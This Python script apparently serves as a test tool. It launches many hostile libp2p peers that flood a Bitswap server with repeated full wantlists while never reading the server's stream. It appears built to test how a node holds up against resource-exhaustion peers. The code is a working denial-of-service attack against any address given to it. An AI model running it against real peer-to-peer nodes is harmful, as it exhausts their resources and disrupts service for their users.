#!/usr/bin/env python3
"""Hostile Bitswap peers (py-libp2p 0.8.1, the venv's Python): each connects to ADDRESS, accepts
the server's Bitswap stream but never reads it, and sends, ROUNDS times, a full wantlist of
WANT_BLOCK for every CID in CIDS (hex multihashes, one a line: CIDv0) — the same large DAG
asked for again and again. Holds its connection for HOLD seconds, then exits.

  bitswap_flood.py ADDRESS CIDS PEERS ROUNDS HOLD

Prints {"sent": wantlist bytes, "peers": connected} once every peer has sent its rounds.
"""
import json
import os
import sys

import multiaddr
import trio
from libp2p import new_host
from libp2p.peer.peerinfo import info_from_p2p_addr

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from p2pd_peer import field, varint  # noqa: E402

BITSWAP = "/ipfs/bitswap/1.2.0"


def wantlist(cids):
    entries = b"".join(field(1, field(1, cid) + field(2, 1) + field(4, 0)) for cid in cids)
    return field(1, entries + field(2, True))


async def never_read(stream):
    await trio.sleep_forever()


async def hostile(info, message, rounds, hold, sent, ready):
    host = new_host()
    async with host.run(listen_addrs=[multiaddr.Multiaddr("/ip4/127.0.0.1/tcp/0")]):
        host.set_stream_handler(BITSWAP, never_read)
        with trio.fail_after(30):
            await host.connect(info)
            stream = await host.new_stream(info.peer_id, [BITSWAP])
        for _ in range(rounds):
            await stream.write(varint(len(message)) + message)
            sent[0] += len(message)
            await trio.sleep(0.2)
        ready[0] += 1
        await trio.sleep(hold)


async def main():
    address, cids_path, peers, rounds, hold = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5])
    with open(cids_path) as f:
        cids = [bytes.fromhex(line.strip()) for line in f if line.strip()]
    message = wantlist(cids)
    info = info_from_p2p_addr(multiaddr.Multiaddr(address))
    sent, ready = [0], [0]
    async with trio.open_nursery() as nursery:
        for _ in range(peers):
            nursery.start_soon(hostile, info, message, rounds, hold, sent, ready)
        while ready[0] < peers:
            await trio.sleep(0.1)
        print(json.dumps({"sent": sent[0], "peers": ready[0]}), flush=True)


if __name__ == "__main__":
    trio.run(main)
